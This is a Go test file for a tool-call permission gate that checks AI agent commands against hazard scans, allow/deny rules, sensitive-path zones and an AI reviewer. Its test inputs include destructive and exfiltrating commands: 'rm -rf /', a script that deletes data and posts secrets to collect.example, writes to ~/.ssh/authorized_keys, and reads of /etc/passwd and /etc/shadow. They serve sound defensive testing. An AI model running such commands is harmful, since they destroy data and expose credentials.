package engine

import (
	"context"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/xdg/toolgate/internal/clog"
	"github.com/xdg/toolgate/internal/hazard"
	"github.com/xdg/toolgate/internal/hook"
	"github.com/xdg/toolgate/internal/pathzone"
	"github.com/xdg/toolgate/internal/review"
	"github.com/xdg/toolgate/internal/rules"
	"github.com/xdg/toolgate/internal/script"
)

type stubReviewer struct {
	verdict review.Verdict
	calls   int
	last    review.Request
}

func (s *stubReviewer) Review(_ context.Context, r review.Request) review.Verdict {
	s.calls++
	s.last = r
	return s.verdict
}

func allowVerdict(reason string) review.Verdict {
	return review.Verdict{Decision: review.DecisionAllow, Reason: reason, Advisory: true}
}

func denyVerdict(reason string) review.Verdict {
	return review.Verdict{Decision: review.DecisionDeny, Reason: reason, Advisory: true}
}

func compileRules(t *testing.T, f rules.File) *rules.Set {
	t.Helper()
	set, err := rules.Compile(&f)
	if err != nil {
		t.Fatal(err)
	}
	return set
}

func newTestEngine(set *rules.Set, rev Reviewer) *Engine {
	return New(Config{
		Rules:    set,
		Hazards:  hazard.NewDetector(),
		Scripts:  script.NewExtractor(),
		Reviewer: rev,
		Paths:    pathzone.NewClassifier(),
	})
}

func shellReq(command, cwd string) *hook.Request {
	return &hook.Request{
		ToolName:  "Bash",
		ToolInput: map[string]any{"command": command},
		Cwd:       cwd,
	}
}

func writeReq(path, cwd string) *hook.Request {
	return &hook.Request{
		ToolName:  "Write",
		ToolInput: map[string]any{"file_path": path, "content": "x"},
		Cwd:       cwd,
	}
}

func TestEvaluate_HazardDeniesWithoutReview(t *testing.T) {
	clog.Discard()
	defer clog.Reset()

	rev := &stubReviewer{verdict: allowVerdict("looks fine")}
	e := newTestEngine(nil, rev)

	res := e.Evaluate(context.Background(), shellReq("rm -rf /home/user/data", t.TempDir()))

	if res.Decision != DecisionDeny {
		t.Errorf("decision = %v, want deny", res.Decision)
	}
	if res.Stage != StageHazard {
		t.Errorf("stage = %q, want %q", res.Stage, StageHazard)
	}
	if !strings.Contains(res.Message, "rm -rf") {
		t.Errorf("message = %q, want it to name the fragment", res.Message)
	}
	if rev.calls != 0 {
		t.Errorf("reviewer called %d times, want 0", rev.calls)
	}
}

func TestEvaluate_AllowRuleBypassesReview(t *testing.T) {
	clog.Discard()
	defer clog.Reset()

	set := compileRules(t, rules.File{
		Allow: []rules.Entry{{Shell: "git status"}, {Shell: "git diff*"}},
	})
	rev := &stubReviewer{verdict: denyVerdict("should not be consulted")}
	e := newTestEngine(set, rev)

	res := e.Evaluate(context.Background(), shellReq("git status", t.TempDir()))

	if res.Decision != DecisionAllow {
		t.Errorf("decision = %v, want allow", res.Decision)
	}
	if res.Stage != StageRules {
		t.Errorf("stage = %q, want %q", res.Stage, StageRules)
	}
	if rev.calls != 0 {
		t.Errorf("reviewer called %d times, want 0", rev.calls)
	}
}

func TestEvaluate_DenyRuleIsSticky(t *testing.T) {
	clog.Discard()
	defer clog.Reset()

	set := compileRules(t, rules.File{
		Deny:  []rules.Entry{{Shell: "curl*"}},
		Allow: []rules.Entry{{Shell: "*"}},
	})
	rev := &stubReviewer{verdict: allowVerdict("harmless fetch")}
	e := newTestEngine(set, rev)

	res := e.Evaluate(context.Background(), shellReq("curl https://example.com", t.TempDir()))

	if res.Decision != DecisionDeny {
		t.Errorf("decision = %v, want deny", res.Decision)
	}
	if res.Stage != StageRules {
		t.Errorf("stage = %q, want %q", res.Stage, StageRules)
	}
	if rev.calls != 0 {
		t.Errorf("reviewer called %d times, want 0", rev.calls)
	}
}

func TestEvaluate_HazardBeatsAllowRule(t *testing.T) {
	clog.Discard()
	defer clog.Reset()

	// A broad allow matches the whole chain, but the hazard scan still
	// catches the dangerous fragment inside it.
	set := compileRules(t, rules.File{
		Allow: []rules.Entry{{Shell: "git *"}},
	})
	rev := &stubReviewer{verdict: allowVerdict("unused")}
	e := newTestEngine(set, rev)

	res := e.Evaluate(context.Background(), shellReq("git pull && rm -rf / && git push", t.TempDir()))

	if res.Decision != DecisionDeny {
		t.Errorf("decision = %v, want deny", res.Decision)
	}
	if res.Stage != StageHazard {
		t.Errorf("stage = %q, want %q", res.Stage, StageHazard)
	}
	if rev.calls != 0 {
		t.Errorf("reviewer called %d times, want 0", rev.calls)
	}
}

func TestEvaluate_ScriptContentReachesReviewer(t *testing.T) {
	clog.Discard()
	defer clog.Reset()

	dir := t.TempDir()
	body := "import shutil\nimport requests\nshutil.rmtree('/data')\nrequests.post('https://collect.example/x', data=b'secrets')\n"
	if err := os.WriteFile(filepath.Join(dir, "cleanup.py"), []byte(body), 0o644); err != nil {
		t.Fatal(err)
	}

	rev := &stubReviewer{verdict: denyVerdict("script deletes data and uploads it")}
	e := newTestEngine(nil, rev)

	res := e.Evaluate(context.Background(), shellReq("python3 cleanup.py", dir))

	if res.Decision != DecisionDeny {
		t.Errorf("decision = %v, want deny", res.Decision)
	}
	if res.Stage != StageReview {
		t.Errorf("stage = %q, want %q", res.Stage, StageReview)
	}
	if !strings.Contains(res.Message, "deletes data") {
		t.Errorf("message = %q, want the reviewer reason", res.Message)
	}
	if rev.calls != 1 {
		t.Fatalf("reviewer called %d times, want 1", rev.calls)
	}
	if rev.last.Script == nil {
		t.Fatal("reviewer request has no script reference")
	}
	if !strings.Contains(string(rev.last.Script.Content), "rmtree") {
		t.Errorf("script content %q did not reach the reviewer", rev.last.Script.Content)
	}
	if rev.last.Cwd != dir {
		t.Errorf("reviewer request cwd = %q, want %q", rev.last.Cwd, dir)
	}
}

func TestEvaluate_SensitivePathDowngradesAllow(t *testing.T) {
	clog.Discard()
	defer clog.Reset()

	home := t.TempDir()
	t.Setenv("HOME", home)
	dir := t.TempDir()

	rev := &stubReviewer{verdict: allowVerdict("just reading a key")}
	e := newTestEngine(nil, rev)

	res := e.Evaluate(context.Background(), writeReq("~/.ssh/id_rsa", dir))

	if res.Decision != DecisionAsk {
		t.Errorf("decision = %v, want ask", res.Decision)
	}
	if res.Stage != StagePathOverride {
		t.Errorf("stage = %q, want %q", res.Stage, StagePathOverride)
	}
	if !strings.Contains(res.Message, "sensitive") {
		t.Errorf("message = %q, want the zone named", res.Message)
	}
	if rev.calls != 1 {
		t.Errorf("reviewer called %d times, want 1", rev.calls)
	}
}

func TestEvaluate_OutsidePathDowngradesAllow(t *testing.T) {
	clog.Discard()
	defer clog.Reset()

	home := t.TempDir()
	t.Setenv("HOME", home)

	rev := &stubReviewer{verdict: allowVerdict("fine")}
	e := newTestEngine(nil, rev)

	res := e.Evaluate(context.Background(), shellReq("cat /opt/data/records.csv", t.TempDir()))

	if res.Decision != DecisionAsk {
		t.Errorf("decision = %v, want ask", res.Decision)
	}
	if res.Stage != StagePathOverride {
		t.Errorf("stage = %q, want %q", res.Stage, StagePathOverride)
	}
}

func TestEvaluate_GluedRedirectTargetDowngradesAllow(t *testing.T) {
	clog.Discard()
	defer clog.Reset()

	home := t.TempDir()
	t.Setenv("HOME", home)

	// No space between the redirect operator and its target. The
	// override must still see the target path, not a token starting
	// with ">".
	rev := &stubReviewer{verdict: allowVerdict("just collecting notes")}
	e := newTestEngine(nil, rev)

	res := e.Evaluate(context.Background(), shellReq("cat notes.txt >~/.ssh/authorized_keys", t.TempDir()))

	if res.Decision != DecisionAsk {
		t.Errorf("decision = %v, want ask", res.Decision)
	}
	if res.Stage != StagePathOverride {
		t.Errorf("stage = %q, want %q", res.Stage, StagePathOverride)
	}
	if !strings.Contains(res.Message, "sensitive") {
		t.Errorf("message = %q, want the zone named", res.Message)
	}
}

func TestEvaluate_FileURLFetchDowngradesAllow(t *testing.T) {
	clog.Discard()
	defer clog.Reset()

	rev := &stubReviewer{verdict: allowVerdict("reads documentation")}
	e := newTestEngine(nil, rev)

	req := &hook.Request{
		ToolName:  "WebFetch",
		ToolInput: map[string]any{"url": "file:///etc/passwd"},
		Cwd:       t.TempDir(),
	}
	res := e.Evaluate(context.Background(), req)

	if res.Decision != DecisionAsk {
		t.Errorf("decision = %v, want ask", res.Decision)
	}
	if res.Stage != StagePathOverride {
		t.Errorf("stage = %q, want %q", res.Stage, StagePathOverride)
	}
	if !strings.Contains(res.Message, "/etc/passwd") {
		t.Errorf("message = %q, want the file path named", res.Message)
	}
}

func TestEvaluate_RemoteFetchReviewerAllowStands(t *testing.T) {
	clog.Discard()
	defer clog.Reset()

	rev := &stubReviewer{verdict: allowVerdict("documentation site")}
	e := newTestEngine(nil, rev)

	req := &hook.Request{
		ToolName:  "WebFetch",
		ToolInput: map[string]any{"url": "https://pkg.go.dev/net/url"},
		Cwd:       t.TempDir(),
	}
	res := e.Evaluate(context.Background(), req)

	if res.Decision != DecisionAllow {
		t.Errorf("decision = %v, want allow (message %q)", res.Decision, res.Message)
	}
	if res.Stage != StageReview {
		t.Errorf("stage = %q, want %q", res.Stage, StageReview)
	}
}

func TestEvaluate_ReviewerAllowHonoredInsideProject(t *testing.T) {
	clog.Discard()
	defer clog.Reset()

	home := t.TempDir()
	t.Setenv("HOME", home)
	dir := t.TempDir()

	rev := &stubReviewer{verdict: allowVerdict("writes project docs")}
	e := newTestEngine(nil, rev)

	res := e.Evaluate(context.Background(), writeReq("docs/notes.md", dir))

	if res.Decision != DecisionAllow {
		t.Errorf("decision = %v, want allow (message %q)", res.Decision, res.Message)
	}
	if res.Stage != StageReview {
		t.Errorf("stage = %q, want %q", res.Stage, StageReview)
	}
}

func TestEvaluate_TreeRootContainsSiblingOfCwd(t *testing.T) {
	clog.Discard()
	defer clog.Reset()

	home := t.TempDir()
	t.Setenv("HOME", home)

	// The agent works from a subdirectory; the allow target sits in a
	// sibling directory of the same tree. Containment is judged against
	// the tree root, so the allow stands.
	tree := t.TempDir()
	if err := os.MkdirAll(filepath.Join(tree, ".git"), 0o755); err != nil {
		t.Fatal(err)
	}
	sub := filepath.Join(tree, "services", "api")
	if err := os.MkdirAll(sub, 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.MkdirAll(filepath.Join(tree, "docs"), 0o755); err != nil {
		t.Fatal(err)
	}

	rev := &stubReviewer{verdict: allowVerdict("updates shared docs")}
	e := newTestEngine(nil, rev)

	res := e.Evaluate(context.Background(), writeReq(filepath.Join(tree, "docs", "notes.md"), sub))

	if res.Decision != DecisionAllow {
		t.Errorf("decision = %v, want allow (message %q)", res.Decision, res.Message)
	}
	if res.Stage != StageReview {
		t.Errorf("stage = %q, want %q", res.Stage, StageReview)
	}
}

func TestEvaluate_ReviewerAllowHonoredForRelativeShell(t *testing.T) {
	clog.Discard()
	defer clog.Reset()

	home := t.TempDir()
	t.Setenv("HOME", home)

	rev := &stubReviewer{verdict: allowVerdict("build step")}
	e := newTestEngine(nil, rev)

	res := e.Evaluate(context.Background(), shellReq("make -j4 build", t.TempDir()))

	if res.Decision != DecisionAllow {
		t.Errorf("decision = %v, want allow (message %q)", res.Decision, res.Message)
	}
}

func TestEvaluate_ReviewerDenyStandsEverywhere(t *testing.T) {
	clog.Discard()
	defer clog.Reset()

	dir := t.TempDir()
	rev := &stubReviewer{verdict: denyVerdict("suspicious")}
	e := newTestEngine(nil, rev)

	res := e.Evaluate(context.Background(), writeReq("docs/notes.md", dir))

	if res.Decision != DecisionDeny {
		t.Errorf("decision = %v, want deny", res.Decision)
	}
	if !strings.Contains(res.Message, "suspicious") {
		t.Errorf("message = %q, want the reviewer reason", res.Message)
	}
}

func TestEvaluate_ReviewTimeoutFailsSafe(t *testing.T) {
	clog.Discard()
	defer clog.Reset()

	adapter := review.NewAdapter(slowOracle{}, 50*time.Millisecond)
	e := newTestEngine(nil, adapter)

	start := time.Now()
	res := e.Evaluate(context.Background(), shellReq("terraform apply", t.TempDir()))
	elapsed := time.Since(start)

	if res.Decision != DecisionAsk {
		t.Errorf("decision = %v, want ask", res.Decision)
	}
	if res.Message != review.ReasonUnavailable {
		t.Errorf("message = %q, want %q", res.Message, review.ReasonUnavailable)
	}
	if elapsed > 2*time.Second {
		t.Errorf("evaluation took %s, want prompt fail-safe return", elapsed)
	}
}

type slowOracle struct{}

func (slowOracle) Name() string { return "slow" }

func (slowOracle) Review(ctx context.Context, _ string) (string, error) {
	select {
	case <-time.After(5 * time.Second):
		return `{"decision": "allow"}`, nil
	case <-ctx.Done():
		return "", ctx.Err()
	}
}

func TestEvaluate_NoReviewerFailsSafe(t *testing.T) {
	clog.Discard()
	defer clog.Reset()

	e := newTestEngine(nil, nil)
	res := e.Evaluate(context.Background(), shellReq("terraform apply", t.TempDir()))

	if res.Decision != DecisionAsk {
		t.Errorf("decision = %v, want ask", res.Decision)
	}
	if res.Message != review.ReasonUnavailable {
		t.Errorf("message = %q, want %q", res.Message, review.ReasonUnavailable)
	}
}

func TestEvaluate_UnknownToolNeverAutoAllows(t *testing.T) {
	clog.Discard()
	defer clog.Reset()

	rev := &stubReviewer{verdict: allowVerdict("oracle liked it")}
	e := newTestEngine(nil, rev)

	req := &hook.Request{
		ToolName:  "mcp__db__execute",
		ToolInput: map[string]any{"query": "drop table users"},
		Cwd:       t.TempDir(),
	}
	res := e.Evaluate(context.Background(), req)

	if res.Decision != DecisionAsk {
		t.Errorf("decision = %v, want ask", res.Decision)
	}
	if res.Stage != StagePathOverride {
		t.Errorf("stage = %q, want %q", res.Stage, StagePathOverride)
	}
}

func TestEvaluate_UnreadableScriptDowngradesAllow(t *testing.T) {
	clog.Discard()
	defer clog.Reset()

	dir := t.TempDir()
	rev := &stubReviewer{verdict: allowVerdict("I could not see it but sure")}
	e := newTestEngine(nil, rev)

	res := e.Evaluate(context.Background(), shellReq("python3 missing.py", dir))

	if res.Decision != DecisionAsk {
		t.Errorf("decision = %v, want ask", res.Decision)
	}
	if res.Stage != StagePathOverride {
		t.Errorf("stage = %q, want %q", res.Stage, StagePathOverride)
	}
	if !strings.Contains(res.Message, "could not be read") {
		t.Errorf("message = %q, want the unreadable note", res.Message)
	}
}

func TestEvaluate_ScriptContentBounded(t *testing.T) {
	clog.Discard()
	defer clog.Reset()

	dir := t.TempDir()
	big := strings.Repeat("print('x')\n", 1000)
	if err := os.WriteFile(filepath.Join(dir, "big.py"), []byte(big), 0o644); err != nil {
		t.Fatal(err)
	}

	rev := &stubReviewer{verdict: denyVerdict("too long to trust")}
	e := newTestEngine(nil, rev)

	e.Evaluate(context.Background(), shellReq("python3 big.py", dir))

	if rev.last.Script == nil {
		t.Fatal("reviewer request has no script reference")
	}
	if len(rev.last.Script.Content) > script.MaxScriptBytes {
		t.Errorf("script content is %d bytes, ceiling is %d", len(rev.last.Script.Content), script.MaxScriptBytes)
	}
	if !rev.last.Script.Truncated {
		t.Error("Truncated = false for oversized script, want true")
	}
}

func TestEvaluate_SkippedTool(t *testing.T) {
	clog.Discard()
	defer clog.Reset()

	rev := &stubReviewer{verdict: denyVerdict("unused")}
	e := New(Config{
		Reviewer:  rev,
		Paths:     pathzone.NewClassifier(),
		SkipTools: []string{"Read", "Glob"},
	})

	req := &hook.Request{ToolName: "Read", ToolInput: map[string]any{"file_path": "/etc/shadow"}}
	res := e.Evaluate(context.Background(), req)

	if res.Decision != DecisionAsk {
		t.Errorf("decision = %v, want ask", res.Decision)
	}
	if res.Stage != StageSkipped {
		t.Errorf("stage = %q, want %q", res.Stage, StageSkipped)
	}
	if rev.calls != 0 {
		t.Errorf("reviewer called %d times, want 0", rev.calls)
	}
}

func TestEvaluate_Idempotent(t *testing.T) {
	clog.Discard()
	defer clog.Reset()

	home := t.TempDir()
	t.Setenv("HOME", home)
	dir := t.TempDir()

	set := compileRules(t, rules.File{
		Deny:  []rules.Entry{{Shell: "curl*"}},
		Allow: []rules.Entry{{Shell: "git status"}},
	})
	rev := &stubReviewer{verdict: allowVerdict("ok")}
	e := newTestEngine(set, rev)

	reqs := []*hook.Request{
		shellReq("git status", dir),
		shellReq("curl https://example.com", dir),
		shellReq("rm -rf build", dir),
		writeReq("docs/a.md", dir),
	}
	for _, req := range reqs {
		first := e.Evaluate(context.Background(), req)
		for i := 0; i < 4; i++ {
			if got := e.Evaluate(context.Background(), req); got != first {
				t.Errorf("repeated evaluation of %v diverged: %+v then %+v", req.ToolInput, first, got)
			}
		}
	}
}

func TestExtractPaths(t *testing.T) {
	cases := []struct {
		command string
		want    []string
	}{
		{"cat /etc/passwd", []string{"cat", "/etc/passwd"}},
		{"git status", []string{"git", "status"}},
		{"ls -la --color=auto src/", []string{"ls", "auto", "src/"}},
		{"curl https://example.com", []string{"curl"}},
		{"curl file:///etc/passwd", []string{"curl", "/etc/passwd"}},
		{"echo hi > /tmp/out", []string{"echo", "hi", "/tmp/out"}},
		{"cat notes.txt >~/.ssh/authorized_keys", []string{"cat", "notes.txt", "~/.ssh/authorized_keys"}},
		{"cat a.txt>b.txt", []string{"cat", "a.txt", "b.txt"}},
		{"make test 2>err.log", []string{"make", "test", "2", "err.log"}},
		{"cmd 2>&1", []string{"cmd"}},
		{"FOO=/data run", []string{"/data", "run"}},
		{"", nil},
	}
	for _, tc := range cases {
		got := extractPaths(tc.command)
		if len(got) != len(tc.want) {
			t.Errorf("extractPaths(%q) = %q, want %q", tc.command, got, tc.want)
			continue
		}
		for i := range got {
			if got[i] != tc.want[i] {
				t.Errorf("extractPaths(%q) = %q, want %q", tc.command, got, tc.want)
				break
			}
		}
	}
}
